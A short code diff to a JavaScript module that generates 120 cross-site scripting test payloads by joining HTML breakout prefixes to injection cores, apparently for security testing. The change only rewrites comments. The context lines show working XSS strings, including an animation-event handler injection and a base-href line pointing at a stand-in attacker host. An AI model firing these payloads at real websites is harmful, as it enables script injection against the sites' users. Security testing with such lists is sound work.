@@ -25,15 +25,10 @@ const CORES = [
   "<base href=//evil.example/>",
   "<div style=animation-name:x onanimationstart=X>",
 ];
-/**
- * Prefixes that close the HTML around an inserted text: plain text, an attribute, an element, a
- * script.
- */
+/** Prefixes that close the HTML around an inserted text: text, attribute, element, script. */
 const BREAKOUTS = ["", '">', "'>", "</title></textarea>", "</script>-->"];
 
-/**
- * 120 payloads: 24 cores with 5 prefixes. Each fits into the fields with the lowest length limits.
- */
+/** 120 payloads. Each fits into the fields with the lowest length limits. */
 export const XSS_PAYLOADS: readonly string[] = BREAKOUTS.flatMap((out) =>
   CORES.map((core) => out + core.replace("X", "alert(__xss=1)")),
 );
